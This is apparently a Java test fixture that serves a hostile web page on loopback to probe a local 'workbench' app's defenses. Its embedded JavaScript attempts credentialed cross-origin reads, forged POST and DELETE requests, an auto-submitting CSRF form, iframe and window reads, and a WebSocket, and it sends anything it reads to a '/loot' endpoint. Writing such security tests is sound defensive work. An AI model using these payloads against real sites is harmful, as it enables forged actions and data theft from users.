package tideover.web.guard;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * A page of somebody else on the same machine, which tries whatever a browser lets it try: it reads, changes, shows and
 * opens the workbench in the hope that the browser sends its cookie along.
 */
final class AttackPage implements AutoCloseable {
    private final HttpServer server;
    private final List<String> loot = new CopyOnWriteArrayList<>();
    private final String target;
    private final String site;

    /** @param target origin of the workbench */
    AttackPage(String target, String site) {
        this.target = target;
        this.site = site;
        try {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        server.createContext("/", exchange -> {
            // Whatever is asked for here was told by somebody who should have kept it.
            String path = exchange.getRequestURI().getPath();
            if (path.startsWith("/loot")) loot.add(exchange.getRequestURI().getRawQuery());
            String referrer = exchange.getRequestHeaders().getFirst("Referer");
            if (referrer != null && referrer.startsWith(target)) loot.add("referrer " + referrer);
            byte[] page = (path.equals("/form") ? form() : page()).getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "text/html;charset=utf-8");
            exchange.sendResponseHeaders(200, page.length);
            exchange.getResponseBody().write(page);
            exchange.close();
        });
        server.start();
    }

    /** Address on another port of the same name: for cookies it is the same site. */
    String sameSite(String path) {
        return "http://127.0.0.1:" + server.getAddress().getPort() + path;
    }

    /** Address under another name. */
    String crossSite(String path) {
        return "http://localhost:" + server.getAddress().getPort() + path;
    }

    /** What it got hold of. */
    List<String> loot() {
        return List.copyOf(loot);
    }

    /** A form that sends itself. */
    private String form() {
        return """
                <!doctype html><body><form method="post" action="%1$s%2$s/circuits">
                <input name="base" value="1"><input name="path" value="oven.cable.lengthM"><input name="was" value="">
                <input name="typed" value="99"></form><script>document.forms[0].submit()</script>
                """.formatted(target, site);
    }

    private String page() {
        return """
                <!doctype html><title>Win a torch</title><body>
                <script>
                const target = '%1$s', site = '%2$s', tried = [];
                const loot = text => fetch('/loot?' + encodeURIComponent(text));
                const body = 'base=1&path=oven.cable.lengthM&was=&typed=99';
                const form = {'Content-Type': 'application/x-www-form-urlencoded'};
                async function tryFetch(name, path, options) {
                  try {
                    const answer = await fetch(target + path, {credentials: 'include', ...options});
                    const text = await answer.text();
                    if (text) loot(name + ' read ' + text.slice(0, 80));
                    tried.push(name + ' ' + answer.type);
                  } catch (refused) { tried.push(name + ' refused'); }
                }
                function tryElement(name, element) {
                  return new Promise(done => {
                    element.onload = () => { tried.push(name + ' loaded'); done(); };
                    element.onerror = () => { tried.push(name + ' refused'); done(); };
                    setTimeout(done, 3000);
                    document.body.append(element);
                  });
                }
                async function attack() {
                  await tryFetch('read', site + '/circuits', {});
                  await tryFetch('read opaque', site + '/circuits', {mode: 'no-cors'});
                  await tryFetch('read api', '/api/sites', {});
                  await tryFetch('change', site + '/circuits', {method: 'POST', mode: 'no-cors', headers: form, body});
                  await tryFetch('change with header', site + '/circuits', {method: 'POST', headers: {...form, 'HX-Request': 'true'}, body});
                  await tryFetch('change api', '/api/sites' + site.slice(6) + '/edits', {method: 'POST', mode: 'no-cors', body: '{}'});
                  await tryFetch('erase api', '/api/attachments/0123456789abcdef', {method: 'DELETE'});
                  navigator.sendBeacon(target + site + '/circuits/undo', new Blob([body], {type: 'text/plain'}));
                  await tryElement('picture', Object.assign(new Image(), {src: target + site + '/diagram.svg'}));
                  await tryElement('picture of ours', Object.assign(new Image(), {src: target + '/assets/icon.svg'}));
                  await tryElement('script', Object.assign(document.createElement('script'), {src: target + site + '/site.json'}));
                  await tryElement('script of ours', Object.assign(document.createElement('script'), {src: target + '/assets/desk.js'}));
                  await tryElement('style', Object.assign(document.createElement('link'), {rel: 'stylesheet', href: target + '/assets/base.css'}));
                  const frame = Object.assign(document.createElement('iframe'), {src: target + site + '/circuits'});
                  document.body.append(frame);
                  await new Promise(done => setTimeout(done, 1500));
                  try { if (frame.contentDocument.body.textContent.length > 0) loot('frame read'); } catch (refused) { tried.push('frame refused'); }
                  frame.contentWindow.postMessage({give: 'all'}, '*');
                  try {
                    const socket = new WebSocket(target.replace('http', 'ws') + '/');
                    socket.onopen = () => loot('socket open');
                    socket.onerror = () => tried.push('socket refused');
                  } catch (refused) { tried.push('socket refused'); }
                  await new Promise(done => setTimeout(done, 500));
                  window.tried = tried;
                }
                window.openWorkbench = async () => {
                  const opened = window.open(target + site + '/circuits');
                  await new Promise(done => setTimeout(done, 2500));
                  let seen = 'refused';
                  try { seen = opened.document.body.textContent; loot('window read'); } catch (refused) { }
                  try { if (opened.length !== undefined && !opened.closed) seen += ' with a hold of the window'; } catch (refused) { }
                  return seen;
                };
                attack();
                </script>
                """.formatted(target, site);
    }

    @Override
    public void close() {
        server.stop(0);
    }
}
